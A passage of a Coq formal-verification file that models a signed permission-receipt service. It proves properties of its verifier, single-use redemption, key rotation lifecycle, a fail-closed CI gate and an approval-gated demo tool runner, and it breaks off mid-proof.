    repository.  One atomic conditional update of the store:
    [redeemedAt] is set to [now] only where it is null.  A receipt that
    the store does not hold is not updated either, and the call does not
    succeed. *)
Definition tryRedeem (receiptId : string) (now : Z)
    (st : gmap string PermissionReceipt)
  : RedeemResult * gmap string PermissionReceipt :=
  match st !! receiptId with
  | Some r =>
      match redeemedAt r with
      | None => (Ok, <[receiptId := withRedeemedAt r now]> st)
      | Some _ => (AlreadyRedeemed, st)
      end
  | None => (AlreadyRedeemed, st)
  end.

Section Ed25519.

Variable ed25519_sign : string -> N -> string.
Variable ed25519_verify : string -> N -> string -> bool.

(** ** Signer *)

(** Modelled from the spec: [sign] of section 4.3, missing from the
    repository: the signature of the digest under the active key, with
    that key's id. *)
Definition sign (ks : gmap string SigningKey) (r : PermissionReceipt)
  : KeyStoreError + (string * string) :=
  match getActiveKey ks with
  | inr k => inr (ed25519_sign (privateKey k) (digest r), KeyStore.keyId k)
  | inl e => inl e
  end.

Inductive CreateError := UnsignedApprovedReceipt (e : KeyStoreError).

(** Modelled from the spec: receipt creation under the signing mode,
    sections 3 and 4.3, missing from the repository: only an APPROVED
    receipt is given to the Signer. *)
Definition createReceipt (mode : SigningMode) (ks : gmap string SigningKey)
    (draft : PermissionReceipt) : CreateError + PermissionReceipt :=
  match decision draft with
  | APPROVED =>
      match mode with
      | required =>
          match sign ks draft with
          | inr (sig, kid) => inr (withSignature draft sig kid)
          | inl e => inl (UnsignedApprovedReceipt e)
          end
      | optional =>
          match sign ks draft with
          | inr (sig, kid) => inr (withSignature draft sig kid)
          | inl _ => inr (unsigned draft)
          end
      | disabled => inr (unsigned draft)
      end
  | _ => inr (unsigned draft)
  end.

(** ** Verifier *)

Definition scopeMatches (req : VerifyRequest) (r : PermissionReceipt) : bool :=
  String.eqb (req_scope req) (scope r)
  && String.eqb (req_scopeRef req) (scopeRef r)
  && String.eqb (req_scopeSha req) (scopeSha r).

(** Check 6: a signature that is present must verify under a key that
    exists and is not revoked. *)
Definition signatureValid (ks : gmap string SigningKey) (r : PermissionReceipt) : bool :=
  match signature r with
  | None => true
  | Some sig =>
      match Receipt.keyId r with
      | None => false
      | Some kid =>
          match ks !! kid with
          | None => false
          | Some k =>
              if decide (status k = revoked) then false
              else ed25519_verify (publicKey k) (digest r) sig
          end
      end
  end.

(** Modelled from the spec: checks 1 to 6 of section 4.4, in order, on
    the store as it is read; the verifier has no code in the repository. *)
Definition verifyChecks (mode : SigningMode) (ks : gmap string SigningKey)
    (st : gmap string PermissionReceipt) (now : Z) (req : VerifyRequest)
  : ErrorCode + PermissionReceipt :=
  match st !! req_receiptId req with
  | None => inl PP_NO_RECEIPT
  | Some r =>
      if (expiresAt r <? now)%Z then inl PP_EXPIRED
      else if isSome (redeemedAt r) then inl PP_REDEEMED
      else if negb (scopeMatches req r) then inl PP_SCOPE_MISMATCH
      else if isRequired mode && negb (isSome (signature r))
           then inl PP_UNSIGNED_RECEIPT
      else if negb (signatureValid ks r) then inl PP_INVALID_SIGNATURE
      else inr r
  end.

(** Modelled from the spec: step 7 of section 4.4, the atomic redeem;
    losing the race is reported as REDEEMED. *)
Definition redeemStep (st : gmap string PermissionReceipt) (now : Z)
    (req : VerifyRequest) (r : PermissionReceipt)
  : gmap string PermissionReceipt * VerificationResult :=
  match tryRedeem (req_receiptId req) now st with
  | (Ok, st') => (st', Valid (publicView (withRedeemedAt r now)))
  | (AlreadyRedeemed, st') => (st', Invalid PP_REDEEMED)
  end.

(** Modelled from the spec: [verify] of section 4.4, missing from the
    repository. *)
Definition verify (mode : SigningMode) (ks : gmap string SigningKey)
    (st : gmap string PermissionReceipt) (now : Z) (req : VerifyRequest)
  : gmap string PermissionReceipt * VerificationResult :=
  match verifyChecks mode ks st now req with
  | inl code => (st, Invalid code)
  | inr r =>
      if req_redeem req then redeemStep st now req r
      else (st, Valid (publicView r))
  end.

(** ** Concurrent callers *)

(** Modelled from the spec: the callers of section 5.  A caller is a
    thread; each of its steps is one atomic access to the store.  A [tryRedeem] call is one step.  A verify call is the
    read with its checks, then, when the checks pass and redemption
    is asked for, the atomic redeem as a second step. *)
Inductive thread :=
| redeemCall (receiptId : string) (now : Z)
| verifyCall (req : VerifyRequest) (now : Z)
| verifyRedeeming (req : VerifyRequest) (now : Z) (r : PermissionReceipt)
| redeemDone (receiptId : string) (res : RedeemResult)
| verifyDone (req : VerifyRequest) (res : VerificationResult).

Variable mode : SigningMode.
Variable ks : gmap string SigningKey.

Definition threadStep (st : gmap string PermissionReceipt) (t : thread)
  : option (gmap string PermissionReceipt * thread) :=
  match t with
  | redeemCall rid now =>
      let (res, st') := tryRedeem rid now st in
      Some (st', redeemDone rid res)
  | verifyCall req now =>
      match verifyChecks mode ks st now req with
      | inl code => Some (st, verifyDone req (Invalid code))
      | inr r =>
          if req_redeem req then Some (st, verifyRedeeming req now r)
          else Some (st, verifyDone req (Valid (publicView r)))
      end
  | verifyRedeeming req now r =>
      let (st', res) := redeemStep st now req r in
      Some (st', verifyDone req res)
  | redeemDone _ _ => None
  | verifyDone _ _ => None
  end.

Record config := {
  store : gmap string PermissionReceipt;
  threads : list thread }.

(** The scheduler picks any thread that can move. *)
Inductive step : config -> config -> Prop :=
| step_thread c i t st' t' :
    threads c !! i = Some t ->
    threadStep (store c) t = Some (st', t') ->
    step c {| store := st'; threads := <[i := t']> (threads c) |}.

Definition finished (t : thread) : bool :=
  match t with
  | redeemDone _ _ | verifyDone _ _ => true
  | _ => false
  end.

Definition terminal (c : config) : Prop :=
  forall t, t ∈ threads c -> finished t = true.

(** A thread that has consumed the receipt [rid]. *)
Definition consumed (rid : string) (t : thread) : bool :=
  match t with
  | redeemDone rid' Ok => bool_decide (rid' = rid)
  | verifyDone req (Valid _) =>
      req_redeem req && bool_decide (req_receiptId req = rid)
  | _ => false
  end.

Definition lost (rid : string) (t : thread) : bool :=
  match t with
  | redeemDone rid' AlreadyRedeemed => bool_decide (rid' = rid)
  | _ => false
  end.

Definition count (p : thread -> bool) (ts : list thread) : nat :=
  length (List.filter p ts).

(** Not started yet. *)
Definition isCall (t : thread) : bool :=
  match t with
  | redeemCall _ _ | verifyCall _ _ => true
  | _ => false
  end.

Definition redeemedIn (st : gmap string PermissionReceipt) (rid : string) : option Z :=
  match st !! rid with
  | Some r => redeemedAt r
  | None => None
  end.

End Ed25519.

(** Modelled from the spec: the verify endpoint of sections 4.3 and 4.6.
    With signing disabled, a verify request is rejected with a
    configuration error. *)
Inductive ApiResponse :=
| ConfigurationError
| Verified (res : VerificationResult).

Definition postReceiptsVerify (ed25519_verify : string -> N -> string -> bool)
    (mode : SigningMode) (ks : gmap string SigningKey)
    (st : gmap string PermissionReceipt) (now : Z) (req : VerifyRequest)
  : gmap string PermissionReceipt * ApiResponse :=
  match mode with
  | disabled => (st, ConfigurationError)
  | _ =>
      let (st', res) := verify ed25519_verify mode ks st now req in
      (st', Verified res)
  end.

End Service.

(* ===================================================================== *)
(** * The decision values the documents show                              *)
(* ===================================================================== *)

Module Docs.
Import Canonicalizer.






End Docs.

(* ===================================================================== *)
(** * Properties of the demo code                                         *)
(* ===================================================================== *)

Section StringFacts.


Lemma string_length_app (a b : string) :
  String.length (a ++ b) = (String.length a + String.length b)%nat.
Proof. induction a as [|x a IH]; simpl; [reflexivity|]. f_equal; exact IH. Qed.

Lemma repeat_space_length n : String.length (Js.repeat " " n) = n.
Proof. induction n as [|n IH]; simpl; [reflexivity|]. f_equal; exact IH. Qed.

Lemma firstChars_length n s :
  String.length (Js.firstChars n s) = Nat.min n (String.length s).
Proof.
  revert s. induction n as [|n IH]; intros [|c r]; simpl; try reflexivity.
  f_equal. apply IH.
Qed.

Lemma substring_0_firstChars n s : String.substring 0 n s = Js.firstChars n s.
Proof.
  revert s. induction n as [|n IH]; intros [|c r]; simpl; try reflexivity.
  f_equal. apply IH.
Qed.

(** [substring(0, k)] with [k] inside the string is its first [k] code
    units. *)
Lemma js_substring_prefix s (k : Z) :
  (0 <= k <= Z.of_nat (String.length s))%Z ->
  Js.substring s 0 k = Js.firstChars (Z.to_nat k) s.
Proof.
  intros Hk. unfold Js.substring, Js.clampIndex.
  replace (Z.to_nat (Z.min (Z.max 0 0) (Z.of_nat (String.length s)))) with 0%nat by lia.
  replace (Z.to_nat (Z.min (Z.max k 0) (Z.of_nat (String.length s)))) with (Z.to_nat k) by lia.
  rewrite Nat.min_0_l, Nat.max_0_l, Nat.sub_0_r.
  apply substring_0_firstChars.
Qed.

End StringFacts.

Module OutputFacts.
Import Output.

Lemma stripAnsi_cons c r :
  stripAnsi (String c r) =
  match matchAnsi (String c r) with
  | Some rest => stripAnsi rest
  | None => String c (stripAnsi r)
  end.
Proof.
  funelim (stripAnsi (String c r)).
  all: try discriminate.
  all: repeat match goal with
         | H : String _ _ = String _ _ |- _ => injection H as ? ?; subst
         end.
  all: match goal with H : matchAnsi _ = _ |- _ => rewrite H end; reflexivity.
Qed.

Lemma skipParams_spaces r n :
  skipParams (r ++ Js.repeat " " n) = skipParams r ++ Js.repeat " " n.
Proof.
  induction r as [|c r IH]; simpl.
  - destruct n; reflexivity.
  - destruct (isSgrParam c); [exact IH | reflexivity].
Qed.

Lemma matchAnsi_spaces c r n :
  matchAnsi (String c r ++ Js.repeat " " n) =
  option_map (fun rest => rest ++ Js.repeat " " n) (matchAnsi (String c r)).
Proof.
  destruct r as [|b r]; simpl.
  - destruct n; simpl; [reflexivity|]. destruct (Ascii.eqb c ESC); reflexivity.
  - destruct (Ascii.eqb c ESC && Ascii.eqb b "["); [|reflexivity].
    rewrite skipParams_spaces.
    destruct (skipParams r) as [|m rest]; simpl.
    + destruct n; reflexivity.
    + destruct (Ascii.eqb m "m"); reflexivity.
Qed.

Lemma stripAnsi_spaces n : stripAnsi (Js.repeat " " n) = Js.repeat " " n.
Proof.
  induction n as [|n IH]; [reflexivity|].
  change (Js.repeat " " (S n)) with (String " " (Js.repeat " " n)).
  rewrite stripAnsi_cons.
  replace (matchAnsi (String " " (Js.repeat " " n))) with (@None string).
  - now rewrite IH.
  - destruct n; reflexivity.
Qed.

Lemma stripAnsi_app_spaces text n :
  stripAnsi (text ++ Js.repeat " " n) = stripAnsi text ++ Js.repeat " " n.
Proof.
  remember (String.length text) as len eqn:Hlen.
  revert text Hlen.
  induction len as [len IH] using lt_wf_ind. intros text Hlen.
  destruct text as [|c r].
  - simpl. apply stripAnsi_spaces.
  - change (String c r ++ Js.repeat " " n) with (String c (r ++ Js.repeat " " n)).
    rewrite !stripAnsi_cons.
    change (String c (r ++ Js.repeat " " n)) with (String c r ++ Js.repeat " " n).
    rewrite matchAnsi_spaces.
    destruct (matchAnsi (String c r)) as [rest|] eqn:Hm; simpl.
    + apply matchAnsi_length in Hm. eapply IH; [|reflexivity]. subst len. exact Hm.
    + f_equal. eapply IH; [|reflexivity]. subst len. simpl. lia.
Qed.

End OutputFacts.

(** C8. For an integer [maxLength >= 3], [truncate] returns the text
    unchanged when it is at most [maxLength] long, and otherwise its first
    [maxLength - 3] code units followed by three dots; the result is never
    longer than [maxLength]. *)
Theorem truncate_spec (text : string) (maxLength : Z) :
  (3 <= maxLength)%Z ->
  ((Z.of_nat (String.length text) <= maxLength)%Z ->
     Output.truncate text maxLength = text) /\
  ((maxLength < Z.of_nat (String.length text))%Z ->
     Output.truncate text maxLength =
     Js.firstChars (Z.to_nat (maxLength - 3)) text ++ "...") /\
  (Z.of_nat (String.length (Output.truncate text maxLength)) <= maxLength)%Z.
Proof.
  intros Hmax. unfold Output.truncate.
  destruct (Z.leb_spec (Z.of_nat (String.length text)) maxLength) as [Hle|Hgt].
  - repeat split; [lia | exact Hle].
  - assert (Hsub : Js.substring text 0 (maxLength - 3)
                   = Js.firstChars (Z.to_nat (maxLength - 3)) text)
      by (apply js_substring_prefix; lia).
    repeat split; [lia | intros _; now rewrite Hsub |].
    rewrite Hsub, string_length_app, firstChars_length. simpl. lia.
Qed.

Lemma truncate_spec_witness :
  (3 <= 6)%Z /\
  Output.truncate "abcdefghij" 6 = "abc..." /\
  Output.truncate "abcdef" 6 = "abcdef".
Proof.
  destruct (truncate_spec "abcdefghij" 6 ltac:(lia)) as (_ & Hlong & _).
  destruct (truncate_spec "abcdef" 6 ltac:(lia)) as (Hshort & _ & _).
  split; [lia|]. split.
  - rewrite Hlong; [reflexivity | simpl; lia].
  - apply Hshort. simpl. lia.
Defined.

(** C10. For every text and natural width, [padRight] is the text
    followed by spaces only, and its visible length (the length once the
    ANSI colour sequences are removed) is the larger of the width and the
    visible length of the text. *)
Theorem padRight_spec (text : string) (width : nat) :
  (exists n, Output.padRight text (Z.of_nat width) = text ++ Js.repeat " " n) /\
  String.length (Output.stripAnsi (Output.padRight text (Z.of_nat width))) =
    Nat.max width (String.length (Output.stripAnsi text)).
Proof.
  unfold Output.padRight. split; [eexists; reflexivity|].
  rewrite OutputFacts.stripAnsi_app_spaces, string_length_app, repeat_space_length.
  lia.
Qed.

(** C1. The CI gate simulation blocks every receipt ID with a message
    that is not empty; no input is let through. *)
Theorem simulateCIGateVerification_fail_closed :
  (forall receiptId : string,
     TrustTests.blocked (TrustTests.simulateCIGateVerification receiptId) = true /\
     TrustTests.message (TrustTests.simulateCIGateVerification receiptId) <> EmptyString) /\
  ~ (exists receiptId : string,
       TrustTests.blocked (TrustTests.simulateCIGateVerification receiptId) = false).
Proof.
  assert (H : forall receiptId : string,
     TrustTests.blocked (TrustTests.simulateCIGateVerification receiptId) = true /\
     TrustTests.message (TrustTests.simulateCIGateVerification receiptId) <> EmptyString).
  { intros receiptId. unfold TrustTests.simulateCIGateVerification.
    destruct (Js.falsy receiptId || String.eqb receiptId "undefined"
              || String.eqb receiptId "null");
      [split; [reflexivity | discriminate] |].
    destruct (negb (Js.startsWith receiptId "rec_")
              && negb (Js.startsWith receiptId "apr_"));
      (split; [reflexivity | discriminate]). }
  split; [exact H|].
  intros [receiptId Hfalse]. destruct (H receiptId) as [Hb _]. congruence.
Qed.

Module DemoFacts.
Import Demo.

(** Runs the monad's operations in the goal. *)
Ltac demo_run :=
  repeat (unfold mbind, mret, demo_bind, demo_ret, bind, ret, emit, throw,
            process_exit_with, trace, outcome; cbn).

End DemoFacts.

(** C2. In the spend, prod-write and message scenarios the mock tool is
    invoked exactly when [PermissionRouter.execute] returns a result whose
    status is APPROVED, once, and after the request was sent; for DENIED
    or REQUIRES_APPROVAL, or when the SDK throws, no tool is called. *)
Theorem gated_tool_only_when_approved
    (execute : Demo.ExecuteRequest -> Demo.Exn + Demo.ExecuteResult)
    (Date_now : Z) (sendResult : Demo.SendCampaignInput -> Demo.ToolResult)
    (s : Scenarios.Scenario) (tenantId agentId : string) :
  let m := Scenarios.run execute Date_now sendResult s tenantId agentId in
  let answer := execute (Scenarios.request s tenantId agentId) in
  Demo.toolCalls (Demo.trace m) =
    match answer with
    | inr r => if String.eqb (Demo.status r) "APPROVED"
               then [Scenarios.gatedCall s] else []
    | inl _ => []
    end /\
  (forall call, Demo.tool_invoked call ∈ Demo.trace m ->
     exists r, answer = inr r /\ Demo.status r = "APPROVED") /\
  (forall r, answer = inr r ->
     Demo.status r = "DENIED" \/ Demo.status r = "REQUIRES_APPROVAL" ->
     Demo.toolCalls (Demo.trace m) = []) /\
  (forall e, answer = inl e ->
     Demo.toolCalls (Demo.trace m) = [] /\ Demo.outcome m = inl (Demo.thrown e)) /\
  (forall i call, Demo.trace m !! i = Some (Demo.tool_invoked call) ->
     exists j, j < i /\
       Demo.trace m !! j
       = Some (Demo.router_execute (Scenarios.request s tenantId agentId))).
Proof.
  intros m answer.
  assert (Hcalls : Demo.toolCalls (Demo.trace m) =
    match answer with
    | inr r => if String.eqb (Demo.status r) "APPROVED"
               then [Scenarios.gatedCall s] else []
    | inl _ => []
    end /\
    (forall e, answer = inl e -> Demo.outcome m = inl (Demo.thrown e)) /\
    (forall i call, Demo.trace m !! i = Some (Demo.tool_invoked call) ->
       exists j, j < i /\
         Demo.trace m !! j
         = Some (Demo.router_execute (Scenarios.request s tenantId agentId)))).
  { subst m answer.
    destruct s;
      unfold Scenarios.run, Scenarios.spend_run, Scenarios.prod_run,
        Scenarios.message_run, Scenarios.PermissionRouter_execute,
        Scenarios.run_chargeCustomer, Scenarios.run_writeRecord,
        Scenarios.run_sendCampaignMessage, Scenarios.request;
      DemoFacts.demo_run;
      match goal with |- context [execute ?q] => destruct (execute q) as [e|r] end;
      DemoFacts.demo_run;
      try (split; [reflexivity | split; [intros e' [= ->]; reflexivity |]];
           intros [|[|i]] call Hi; discriminate Hi);
      destruct (String.eqb (Demo.status r) "APPROVED"); DemoFacts.demo_run;
      (split; [reflexivity | split; [discriminate |]]);
      intros i call Hi; exists 1;
      (split; [|reflexivity]);
      destruct i as [|[|i]]; try discriminate Hi; lia. }
  destruct Hcalls as (Hcalls & Hthrow & Horder).
  split; [exact Hcalls|]. split; [|split; [|split]].
  - intros call Hin.
    assert (Hmem : call ∈ Demo.toolCalls (Demo.trace m)).
    { unfold Demo.toolCalls. apply list_elem_of_omap.
      exists (Demo.tool_invoked call). split; [exact Hin | reflexivity]. }
    rewrite Hcalls in Hmem. destruct answer as [e|r].
    + apply elem_of_nil in Hmem. contradiction.
    + destruct (String.eqb_spec (Demo.status r) "APPROVED") as [Heq|Hne].
      * exists r. split; [reflexivity | exact Heq].
      * apply elem_of_nil in Hmem. contradiction.
  - intros r Hr Hst. rewrite Hcalls, Hr.
    destruct Hst as [-> | ->]; reflexivity.
  - intros e He. split; [rewrite Hcalls, He; reflexivity | apply Hthrow, He].
  - exact Horder.
Qed.

(** The spend scenario under a service that approves: the events in
    order. *)
Example spend_run_approved :
  Demo.trace (Scenarios.spend_run
    (fun _ => inr {| Demo.status := "APPROVED";
                     Demo.receipt := {| Demo.receiptId := "rec_1";
                                        Demo.reasonCodes := [] |} |})
    1700000000000 "acme" "demo-agent")
  !! 3 = Some (Demo.tool_invoked (Demo.chargeCustomer Scenarios.spend_input)).
Proof. reflexivity. Qed.

(** The same scenario under a service that denies: no tool call. *)
Example spend_run_denied :
  Demo.toolCalls (Demo.trace (Scenarios.spend_run
    (fun _ => inr {| Demo.status := "DENIED";
                     Demo.receipt := {| Demo.receiptId := "rec_1";
                                        Demo.reasonCodes := ["POLICY_DENIED"] |} |})
    1700000000000 "acme" "demo-agent"))
  = [].
Proof. reflexivity. Qed.

Module IndexFacts.
Import Demo Index.

(** The value [validateEnv] gives [agentId]. *)
Definition agentIdOf (env : gmap string string) : string :=
  match env !! "PP_AGENT_ID" with
  | Some EmptyString => "demo-agent"
  | Some a => a
  | None => "demo-agent"
  end.

Lemma validateEnv_outcome (env : gmap string string) :
  outcome (validateEnv env) =
  match env !! "PP_ENDPOINT", env !! "PP_API_KEY", env !! "PP_TENANT_ID" with
  | Some (String c1 e), Some (String c2 a), Some (String c3 t) =>
      inr {| endpoint := String c1 e; apiKey := String c2 a;
             tenantId := String c3 t; agentId := agentIdOf env |}
  | _, _, _ => inl (process_exit 1)
  end.
Proof.
  unfold validateEnv, agentIdOf, Js.or_else, outcome.
  destruct (env !! "PP_ENDPOINT") as [[|c1 e]|];
    destruct (env !! "PP_API_KEY") as [[|c2 a]|];
    destruct (env !! "PP_TENANT_ID") as [[|c3 t]|];
    destruct (env !! "PP_AGENT_ID") as [[|c4 g]|];
    reflexivity.
Qed.

End IndexFacts.

(** What [validateEnv] does with a variable that is set to the empty
    string. *)
Example validateEnv_empty_agent_id :
  Demo.outcome (Index.validateEnv
    {[ "PP_ENDPOINT" := "https://pp.example"; "PP_API_KEY" := "key";
       "PP_TENANT_ID" := "acme"; "PP_AGENT_ID" := EmptyString ]})
  = inr {| Index.endpoint := "https://pp.example"; Index.apiKey := "key";
           Index.tenantId := "acme"; Index.agentId := "demo-agent" |}.
Proof. reflexivity. Qed.

Example validateEnv_empty_endpoint :
  Demo.outcome (Index.validateEnv
    {[ "PP_ENDPOINT" := EmptyString; "PP_API_KEY" := "key";
       "PP_TENANT_ID" := "acme" ]})
  = inl (Demo.process_exit 1).
Proof. reflexivity. Qed.

(** C9, as the specification states it, fails: with the three required
    variables set and [PP_AGENT_ID] set to the empty string,
    [validateEnv] returns the agent id [demo-agent], not the value of
    [PP_AGENT_ID]. *)
Lemma validateEnv_empty_value_counterexample :
  ~ (forall env : gmap string string,
       (env !! "PP_ENDPOINT" = None \/ env !! "PP_API_KEY" = None \/
        env !! "PP_TENANT_ID" = None ->
        Demo.outcome (Index.validateEnv env) = inl (Demo.process_exit 1)) /\
       (forall e a t,
          env !! "PP_ENDPOINT" = Some e -> env !! "PP_API_KEY" = Some a ->
          env !! "PP_TENANT_ID" = Some t ->
          Demo.outcome (Index.validateEnv env) =
            inr {| Index.endpoint := e; Index.apiKey := a; Index.tenantId := t;
                   Index.agentId :=
                     match env !! "PP_AGENT_ID" with
                     | Some g => g
                     | None => "demo-agent"
                     end |})).
Proof.
  intros Hclaim.
  destruct (Hclaim
    {[ "PP_ENDPOINT" := "https://pp.example"; "PP_API_KEY" := "key";
       "PP_TENANT_ID" := "acme"; "PP_AGENT_ID" := EmptyString ]}) as [_ Hret].
  specialize (Hret "https://pp.example" "key" "acme" eq_refl eq_refl eq_refl).
  discriminate Hret.
Qed.

(** C9, amended. [validateEnv] ends the process with exit code 1 whenever
    one of [PP_ENDPOINT], [PP_API_KEY], [PP_TENANT_ID] is unset or empty;
    otherwise it returns exactly those three values, with [agentId] the
    value of [PP_AGENT_ID] when that is set and not empty and
    [demo-agent] otherwise; a configuration it returns has all three
    values, none empty. *)
Theorem validateEnv_spec (env : gmap string string) :
  let missing (name : string) :=
    env !! name = None \/ env !! name = Some EmptyString in
  (missing "PP_ENDPOINT" \/ missing "PP_API_KEY" \/ missing "PP_TENANT_ID" ->
   Demo.outcome (Index.validateEnv env) = inl (Demo.process_exit 1)) /\
  (forall e a t,
     env !! "PP_ENDPOINT" = Some e -> e <> EmptyString ->
     env !! "PP_API_KEY" = Some a -> a <> EmptyString ->
     env !! "PP_TENANT_ID" = Some t -> t <> EmptyString ->
     exists agent,
       Demo.outcome (Index.validateEnv env) =
         inr {| Index.endpoint := e; Index.apiKey := a; Index.tenantId := t;
                Index.agentId := agent |} /\
       (forall g, env !! "PP_AGENT_ID" = Some g -> g <> EmptyString -> agent = g) /\
       (missing "PP_AGENT_ID" -> agent = "demo-agent")) /\
  (forall cfg, Demo.outcome (Index.validateEnv env) = inr cfg ->
     env !! "PP_ENDPOINT" = Some (Index.endpoint cfg) /\
     env !! "PP_API_KEY" = Some (Index.apiKey cfg) /\
     env !! "PP_TENANT_ID" = Some (Index.tenantId cfg) /\
     Index.endpoint cfg <> EmptyString /\ Index.apiKey cfg <> EmptyString /\
     Index.tenantId cfg <> EmptyString).
Proof.
  intros missing. rewrite IndexFacts.validateEnv_outcome.
  split; [|split].
  - unfold missing.
    intros [[H | H] | [[H | H] | [H | H]]]; rewrite H;
      repeat match goal with
        | |- context [match ?x with _ => _ end] => destruct x
        end; reflexivity.
  - intros e a t He Hne Ha Hna Ht Hnt. rewrite He, Ha, Ht.
    destruct e; [contradiction|]. destruct a; [contradiction|].
    destruct t; [contradiction|].
    eexists. split; [reflexivity|]. unfold IndexFacts.agentIdOf, missing. split.
    + intros g ->. destruct g; [contradiction | reflexivity].
    + intros [-> | ->]; reflexivity.
  - intros cfg.
    destruct (env !! "PP_ENDPOINT") as [[|c1 e]|]; try discriminate;
      destruct (env !! "PP_API_KEY") as [[|c2 a]|]; try discriminate;
      destruct (env !! "PP_TENANT_ID") as [[|c3 t]|]; try discriminate.
    intros [= <-]. cbn. repeat split; discriminate.
Qed.

Lemma validateEnv_spec_witness :
  Demo.outcome (Index.validateEnv
    {[ "PP_ENDPOINT" := "https://pp.example"; "PP_API_KEY" := "key" ]})
  = inl (Demo.process_exit 1).
Proof.
  apply (validateEnv_spec
           {[ "PP_ENDPOINT" := "https://pp.example"; "PP_API_KEY" := "key" ]}).
  right; right; left. reflexivity.
Defined.

(* ===================================================================== *)
(** * Properties of the key store                                         *)
(* ===================================================================== *)

Module KeyStoreFacts.
Import KeyStore.

Lemma demote_not_active k : status (demote k) <> active.
Proof. unfold demote. destruct (status k) eqn:E; simpl; rewrite ?E; discriminate. Qed.

(** The status of a key before and after one operation. *)
Definition moves (s s' : KeyStatus) : Prop :=
  s' = s \/ (s = active /\ s' = rotated) \/ (s <> revoked /\ s' = revoked).

Lemma moves_demote k : moves (status k) (status (demote k)).
Proof.
  unfold demote, moves. destruct (status k) eqn:E; simpl; rewrite ?E; auto.
Qed.

(** One operation keeps every key and moves its status forward only. *)
Lemma step_lookup ks o i k :
  ks !! i = Some k ->
  exists k', step ks o !! i = Some k' /\ moves (status k) (status k').
Proof.
  intros Hi. unfold step, apply.
  destruct o as [newKey | kid]; unfold rotate, revoke.
  - destruct (ks !! keyId newKey) eqn:Hnew.
    + exists k. split; [exact Hi | left; reflexivity].
    + assert (keyId newKey <> i) by congruence.
      exists (demote k). rewrite lookup_insert_ne, lookup_fmap, Hi by assumption.
      split; [reflexivity | apply moves_demote].
  - destruct (ks !! kid) as [kr|] eqn:Hkid.
    + destruct (decide (kid = i)) as [-> | Hne].
      * exists (withStatus k revoked). rewrite lookup_insert_eq.
        assert (kr = k) by congruence. subst kr.
        split; [reflexivity|]. unfold moves. simpl.
        destruct (status k);
          [ right; right; split; [discriminate | reflexivity]
          | right; right; split; [discriminate | reflexivity]
          | left; reflexivity ].
      * exists k. rewrite lookup_insert_ne by assumption.
        split; [exact Hi | left; reflexivity].
    + exists k. split; [exact Hi | left; reflexivity].
Qed.

Lemma moves_rank s s' : moves s s' -> rank s <= rank s' /\ (s = revoked -> s' = revoked).
Proof.
  intros [-> | [[-> ->] | [Hs ->]]]; simpl; try (split; [lia | congruence]).
  split; [destruct s; simpl; lia | reflexivity].
Qed.

Lemma step_atMostOneActive ks o : atMostOneActive ks -> atMostOneActive (step ks o).
Proof.
  intros Hinv. unfold step, apply.
  destruct o as [newKey | kid]; unfold rotate, revoke.
  - destruct (ks !! keyId newKey) eqn:Hnew; [exact Hinv|].
    intros i j ki kj Hi Hj Hai Haj.
    assert (Hold : forall x kx,
               <[keyId newKey := withStatus newKey active]> (demote <$> ks) !! x = Some kx ->
               status kx = active -> x = keyId newKey).
    { intros x kx Hx Hax.
      destruct (decide (keyId newKey = x)) as [Heq | Hne]; [symmetry; exact Heq|].
      rewrite lookup_insert_ne, lookup_fmap in Hx by assumption.
      destruct (ks !! x) as [k|]; [|discriminate]. simpl in Hx.
      injection Hx as <-. destruct (demote_not_active k Hax). }
    rewrite (Hold i ki Hi Hai), (Hold j kj Hj Haj). reflexivity.
  - destruct (ks !! kid) as [kr|] eqn:Hkid; [|exact Hinv].
    intros i j ki kj Hi Hj Hai Haj.
    destruct (decide (kid = i)) as [<- | Hni].
    { rewrite lookup_insert_eq in Hi. injection Hi as <-. discriminate. }
    destruct (decide (kid = j)) as [<- | Hnj].
    { rewrite lookup_insert_eq in Hj. injection Hj as <-. discriminate. }
    rewrite lookup_insert_ne in Hi, Hj by assumption.
    exact (Hinv i j ki kj Hi Hj Hai Haj).
Qed.

Lemma run_atMostOneActive ops : forall ks,
  atMostOneActive ks -> atMostOneActive (run ks ops).
Proof.
  induction ops as [|o ops IH]; intros ks Hinv; [exact Hinv|].
  apply IH, step_atMostOneActive, Hinv.
Qed.

Lemma run_lookup ops : forall ks i k,
  ks !! i = Some k ->
  exists k', run ks ops !! i = Some k' /\
    rank (status k) <= rank (status k') /\
    (status k = revoked -> status k' = revoked).
Proof.
  induction ops as [|o ops IH]; intros ks i k Hi.
  - exists k. split; [exact Hi | split; [lia | auto]].
  - destruct (step_lookup ks o i k Hi) as (k1 & H1 & Hm).
    destruct (IH _ _ _ H1) as (k' & Hk' & Hr & Hrev).
    destruct (moves_rank _ _ Hm) as [Hr1 Hrev1].
    exists k'. split; [exact Hk' | split; [lia | auto]].
Qed.

Lemma run_app ks ops1 ops2 : run ks (ops1 ++ ops2)%list = run (run ks ops1) ops2.
Proof. apply foldl_app. Qed.

Lemma run_take_le ks ops m n :
  m <= n -> exists rest, run ks (take n ops) = run (run ks (take m ops)) rest.
Proof.
  intros Hmn. exists (take (n - m) (drop m ops)).
  rewrite <- run_app. f_equal.
  rewrite <- (take_drop m (take n ops)) at 1.
  rewrite take_take, Nat.min_l by lia. f_equal.
  rewrite skipn_firstn_comm. reflexivity.
Qed.

End KeyStoreFacts.

(** C7. For every sequence of rotate and revoke operations run from a
    key store with at most one active key, every state on the way has at
    most one active key; the status of a key only moves forward along
    active, rotated, revoked (one operation leaves it, rotates an active
    key, or revokes a key that is not yet revoked), and a key that has
    reached revoked is revoked in every later state. *)
Theorem keystore_lifecycle
    (ks0 : gmap string KeyStore.SigningKey) (ops : list KeyStore.op) :
  KeyStore.atMostOneActive ks0 ->
  (forall n, KeyStore.atMostOneActive (KeyStore.run ks0 (take n ops))) /\
  (forall m n i k, m <= n ->
     KeyStore.run ks0 (take m ops) !! i = Some k ->
     exists k', KeyStore.run ks0 (take n ops) !! i = Some k' /\
       KeyStore.rank (KeyStore.status k) <= KeyStore.rank (KeyStore.status k') /\
       (KeyStore.status k = KeyStore.revoked ->
        KeyStore.status k' = KeyStore.revoked)) /\
  (forall ks o i k, ks !! i = Some k ->
     exists k', KeyStore.step ks o !! i = Some k' /\
       (KeyStore.status k' = KeyStore.status k \/
        (KeyStore.status k = KeyStore.active /\
         KeyStore.status k' = KeyStore.rotated) \/
        (KeyStore.status k <> KeyStore.revoked /\
         KeyStore.status k' = KeyStore.revoked))).
Proof.
  intros Hinv. split; [|split].
  - intros n. apply KeyStoreFacts.run_atMostOneActive, Hinv.
  - intros m n i k Hmn Hk.
